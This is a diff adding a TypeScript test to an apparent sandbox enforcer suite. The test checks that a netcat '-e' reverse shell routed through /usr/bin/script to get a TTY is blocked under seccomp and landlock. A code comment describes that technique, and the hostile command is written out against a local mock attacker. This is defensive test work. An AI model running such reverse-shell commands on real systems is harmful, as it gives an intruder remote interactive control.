@@ -598,3 +598,30 @@ describe.each(["seccomp", "landlock"] as const)("drift on standard input, mechan
     expectBlockedBy(r, "exec.drift", 5);
   });
 });
+
+// new (session 7): `nc -e /usr/bin/script` (or ncat -e): a program that is no shell puts the
+// connection on stdio and runs `script`, which gives the shell it starts a terminal of its own. The
+// shell's stdio is no socket and its parent no shell: the operator got a shell with a TTY.
+describe.each(["seccomp", "landlock"] as const)("a shell behind a terminal on the connection, mechanism %s", (mechanism) => {
+  test("nc -e script (script -q /dev/null, and script -qc sh) is refused; script without a connection, and nc -e of a program that is no shell, run", async () => {
+    for (const args of [["-q", "/dev/null"], ["-qc", "/bin/sh", "/dev/null"]]) {
+      const a = await attacker("127.0.0.1");
+      try {
+        const r = await runEnforcer({ mechanism, policy: POLICY, command: [probe("nc-exec"), "127.0.0.1", String(a.port), "/usr/bin/script", ...args], env: { SHELL: "/bin/sh" }, cwd: tmp.path, timeoutMs: 20_000 });
+        expectBlockedBy(r, "exec.reverseShell");
+        expect(a.bytes()).not.toContain("SHELL-42");
+      } finally {
+        await a.close();
+      }
+    }
+    const echo = await tcpListener("127.0.0.1", "from-the-peer\n");
+    try {
+      const r = await bash(mechanism, `script -qc 'echo pty-ok' /dev/null | tr -d '\\r'; timeout 2 ${probe("nc-exec")} 127.0.0.1 ${echo.port} /usr/bin/head -n 1; echo "head=$?"`);
+      expect(r.stdout.trim().split("\n")).toEqual(["pty-ok", "head=0"]);
+      expect(echo.bytes()).toBe("from-the-peer\n"); // head printed the peer's line back to it
+      expect(blockedExecs(r.events)).toEqual([]);
+    } finally {
+      await echo.close();
+    }
+  });
+});
